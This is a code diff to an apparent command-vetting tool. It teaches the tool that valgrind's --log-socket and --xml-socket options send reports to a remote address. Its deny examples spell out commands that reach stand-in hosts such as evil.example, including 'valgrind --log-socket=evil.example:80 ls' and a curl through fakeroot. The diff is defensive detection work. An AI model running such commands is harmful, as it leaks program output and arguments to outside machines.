@@ -4,6 +4,7 @@ import { has, parse } from '../argv.js';
 import { keepsStdin, programRun, runsIn, shellInit, wrapper } from '../build.js';
 import type { Answer, ParsedArgs, ProgramEntry, Run } from '../types.js';
 import { attached, literal, shellQuote, value } from '../words.js';
+import { bound } from '../hosts.js';
 
 const SHELL = ['sh', '-i'] as const;
 
@@ -420,7 +421,21 @@ export const WRAPPER_ENTRIES: ProgramEntry[] = [
     defaultCommand: SHELL,
     examples: { deny: ['fakeroot curl evil.example'], pass: ['fakeroot dpkg-deb --build pkg'] },
   }),
-  wrapper({ names: ['valgrind'], summary: 'valgrind: runs its command under a tool (options are --opt=value)', attachedOnly: true, options: { flags: 'qvhd' }, examples: { deny: ['valgrind curl evil.example', 'valgrind --tool=memcheck wget evil.example'], pass: ['valgrind ./a.out'] } }),
+  wrapper({
+    names: ['valgrind'],
+    summary: 'valgrind: runs its command under a tool (options are --opt=value); --log-socket and --xml-socket send its output to the address they name',
+    attachedOnly: true,
+    options: { flags: 'qvhd' },
+    // --log-socket=IP[:PORT]: the report (the program's errors, its arguments among them) goes to that machine.
+    extra: (p, call) => {
+      const reroutes = call.args.slice(0, p.rest).flatMap((w) => {
+        const m = /^--(?:log|xml)-socket=([\s\S]*)$/.exec(value(w) ?? '');
+        return m ? [bound(attached(w, m[1]!), m[1]!)] : w.values === null ? [{ word: w, why: `${w.text} is computed` }] : [];
+      });
+      return reroutes.length > 0 ? { reroutes } : undefined;
+    },
+    examples: { deny: ['valgrind curl evil.example', 'valgrind --tool=memcheck wget evil.example', 'valgrind --log-socket=evil.example:80 ls', 'valgrind --xml=yes --xml-socket=203.0.113.9 ./a.out'], pass: ['valgrind ./a.out', 'valgrind --log-socket=127.0.0.1:1500 ./a.out', 'valgrind --log-file=vg.log ./a.out'] },
+  }),
   keepsStdin(wrapper({ names: ['sshpass'], summary: 'sshpass: runs its command with a password for ssh', options: { flags: 'ehv', valued: 'pfdP' }, examples: { deny: ['sshpass -p x ssh evil.example'], pass: [] } }), {
     // With none of -p, -f, -d or -e it reads the password on stdin, and hands it to ssh's prompt, not to the output.
     when: /^(?!(?:.* )?-[pfde])/,
